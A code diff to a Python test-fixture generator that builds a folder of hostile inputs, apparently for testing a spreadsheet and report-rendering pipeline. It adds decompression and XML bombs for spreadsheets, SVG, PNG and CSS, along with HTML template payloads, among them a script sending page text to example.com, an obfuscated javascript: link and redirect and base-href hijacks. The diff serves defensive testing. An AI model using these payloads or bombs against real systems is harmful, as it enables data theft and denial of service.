@@ -7,7 +7,9 @@ Each folder says where its files are put: ``tables`` are given to ``ingest``, ``
 from __future__ import annotations
 
 import io
+import struct
 import zipfile
+import zlib
 from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
 
@@ -15,6 +17,7 @@ import openpyxl
 from openpyxl.utils import get_column_letter
 
 FOLDER = Path(__file__).parents[1] / "hostile"
+_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 _AT = (1980, 1, 1, 0, 0, 0)
 _LAUGHS = (
     '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
@@ -156,11 +159,45 @@ def _workbooks() -> Iterator[tuple[str, bytes]]:
     yield "マクロ.xlsm", packed(macros)
     yield "外部リンク.xlsx", packed(linked)
     yield "コマンドの式.xlsx", packed(_xlsx(_own_counts))
+    yield from _declared_over_the_sheet()
     yield "途中で切れた.xlsx", whole[: len(whole) // 2]
     yield "膨らむシート.xlsx", packed(_xlsx(_write("A1", "x")) | {"xl/media/0.bin": bytes(101 * 10**6)})
     yield "必要な部品がない.xlsx", packed({"[Content_Types].xml": "x"})
     yield "暗号化された.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"EncryptedPackage"
     yield "壊れた.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8
+
+
+def _declared_over_the_sheet() -> Iterator[tuple[str, bytes]]:
+    """What a few kilobytes say of a whole sheet, or of one cell without end."""
+    sheet, everything = "xl/worksheets/sheet1.xml", "A1:XFD1048576"
+    grid = "".join(f"<row>{'<c><v>1</v></c>' * 50}</row>" for _ in range(50))
+
+    def of(rows: str, after: str = "") -> bytes:
+        xml = f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>'
+        return packed(_xlsx(_write("A1", "x")) | {sheet: xml.encode()})
+
+    yield "全面の結合.xlsx", of(grid, f'<mergeCells><mergeCell ref="{everything}"/></mergeCells>')
+    merges = f'<mergeCell ref="{everything}"/>' * 5000
+    yield "重なる結合.xlsx", of(grid, f"<mergeCells>{merges}</mergeCells>")
+    links = f'<hyperlink ref="{everything}" location="a"/>' * 5000
+    yield "全面のリンク.xlsx", of(grid, f"<hyperlinks>{links}</hyperlinks>")
+    ranges = f"{everything} " * 5000
+    yield (
+        "全面の入力規則.xlsx",
+        of(grid, f'<dataValidations><dataValidation sqref="{ranges}"/></dataValidations>'),
+    )
+    yield "深い入れ子.xlsx", of("<r>" * 200_000)
+    yield "欄のない要素.xlsx", of("<a/>" * 9_000_000)
+    yield (
+        "離れた欄.xlsx",
+        of("".join(f'<row r="{n}"><c r="BXX{n}"><v>1</v></c></row>' for n in range(1, 2000))),
+    )
+    yield (
+        "同じ長文.xlsx",
+        of(
+            f"<row>{f'<c t={chr(34)}inlineStr{chr(34)}><is><t>{chr(0x90FD) * 32_000}</t></is></c>' * 1700}</row>"
+        ),
+    )
 
 
 def _open_documents() -> Iterator[tuple[str, bytes]]:
@@ -176,6 +213,10 @@ def _open_documents() -> Iterator[tuple[str, bytes]]:
         "外部実体.ods",
         _ods(_row(_ODS_CELL.format(repeated="", text="&d;")), _READS.partition("?>")[2]),
     )
+    spaces = '<text:s text:c="2000000000"/>'
+    yield "20億の空白.ods", _ods(_row(_ODS_CELL.format(repeated="", text=spaces)))
+    both = _ODS_CELL.format(repeated=' table:number-columns-repeated="1999"', text="x")
+    yield "行と列の繰り返し.ods", _ods(_row(both, ' table:number-rows-repeated="99999"'))
     yield "中身のない.ods", packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})
 
 
@@ -201,6 +242,12 @@ def _texts() -> Iterator[tuple[str, bytes]]:
     yield "実行ファイル.csv", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)
     yield "UTF-32.csv", _HEADING.encode("utf-32")
     yield "空.csv", b""
+    yield "都の並ぶ行.csv", ("美郷町" + "都" * 100_000 + "\n").encode()
+    yield "コンマだけの行.csv", b"," * 1_000_000
+    yield "重なる濁点.csv", ("か" + "\u3099\u0316" * 20_000).encode()
+    yield "角括弧.json", b"[" * 1_000_000
+    yield "ログイン画面.xlsx", "<html><title>ログイン</title><input type='password'></html>".encode()
+    yield "議会資料.pdf", b"%PDF-1.7"
 
 
 def plans() -> Iterator[tuple[str, bytes]]:
@@ -239,6 +286,62 @@ def seals() -> Iterator[tuple[str, bytes]]:
     )
     yield "絵でない.png", b"<script>alert(1)</script>"
     yield "大きすぎる.svg", svg.format("<!-- " + "x" * 400_000 + " -->").encode()
+    ten = '<use xlink:href="#a{}"/>' * 10
+    uses = "".join(f'<g id="a{n}">{ten}</g>'.replace("{}", str(n - 1)) for n in range(1, 12))
+    dot = '<g id="a0"><rect width="1" height="1"/></g>'
+    yield "useの爆弾.svg", svg.format(f'<defs>{dot}{uses}</defs><use xlink:href="#a11"/>').encode()
+    yield "深い入れ子.svg", svg.format("<g>" * 20_000 + "</g>" * 20_000).encode()
+    yield "大きな絵の爆弾.png", _vast_picture(40_000)
+
+
+def _vast_picture(side: int) -> bytes:
+    """A PNG of black pixels, small as a file."""
+
+    def part(kind: bytes, content: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
+        )
+
+    lines = zlib.compress((b"\0" + bytes(side // 8)) * side, 9)
+    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", lines) + part(b"IEND", b"")
+
+
+def _endless_pages() -> Iterator[tuple[str, str]]:
+    """Pages of a few letters that take a long time, or much memory, to lay out."""
+    variables = "".join(f"--a{n}:{f'var(--a{n - 1}) ' * 10};" for n in range(1, 12))
+    yield "変数の爆弾", f"<style>:root{{--a0:x;{variables}}}p::before{{content:var(--a11)}}</style><p>x"
+    yield "百万字の語", "<p>{% for a in range(50000) %}" + "美" * 20 + "{% endfor %}"
+    yield "10億列の欄", "<table><tr><td colspan=1000000000>x"
+    yield "深い入れ子", "<b>" * 5000 + "x"
+    yield "深い入れ子の段落", "{% for a in range(20000) %}<div>{% endfor %}x"
+    yield (
+        "小さすぎる紙",
+        "<style>@page{size:1px 1px;margin:0}</style><p>{% for a in range(20000) %}あ {% endfor %}",
+    )
+    yield "10万行の表", "<table>{% for a in range(100000) %}<tr><td>x{% endfor %}</table>"
+    yield "重い選び方", "<style>" + ":has(p) " * 30 + "{color:red}</style>" + "<div>" * 60 + "<p>x" * 3000
+
+
+def _reaching_pages() -> Iterator[tuple[str, str]]:
+    """Pages that would read or send, from the computer of who reads the report."""
+    yield "スクリプト", "<script>location='http://example.com/?'+document.body.innerText</script>"
+    yield "外のスクリプト", "<script src='x.js'></script>"
+    yield "押すと動く", "<p onclick='alert(1)'>x"
+    yield "動く宛先", "<a href=' java&#9;script:alert(1)'>x</a>"
+    yield "行き先を変える", "<meta http-equiv=refresh content='0;url=http://example.com/'>"
+    yield (
+        "隠した行き先",
+        "<svg><style><meta http-equiv=refresh content='0;url=http://example.com/'></style></svg>",
+    )
+    yield "注釈に隠した枠", "<!--><iframe src='//example.com'></iframe>-->"
+    yield "緩い方針", "<meta http-equiv=Content-Security-Policy content='script-src *'>"
+    yield "基点を変える", "<base href='http://example.com/'>"
+    yield "枠", "<iframe srcdoc='x'></iframe>"
+    yield "送る様式", "<form action='x'><input name=a></form>"
+    yield "よその部品", "<object data='x.swf'></object>"
+    yield "よそへの案内", "<a href='//example.com/{{ report.plan_title }}'>x</a>"
+    yield "よその共有", "<img src='\\\\example.com\\x.png'>"
 
 
 def templates() -> Iterator[tuple[str, bytes]]:
@@ -267,7 +370,13 @@ def templates() -> Iterator[tuple[str, bytes]]:
         "倍になるマクロ": "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
         "自分を含む": "{% include 'report.html.j2' %}",
     }.items():
-        yield f"{name}.html.j2", f"<!DOCTYPE html><title>x</title>{body}\n".encode()
+        yield f"{name}.html.j2", _page(body)
+    for name, body in (*_endless_pages(), *_reaching_pages()):
+        yield f"{name}.html.j2", _page(body)
+
+
+def _page(body: str) -> bytes:
+    return f"<!DOCTYPE html><title>x</title>{body}\n".encode()
 
 
 KINDS = {"tables": tables, "plan": plans, "seals": seals, "templates": templates}
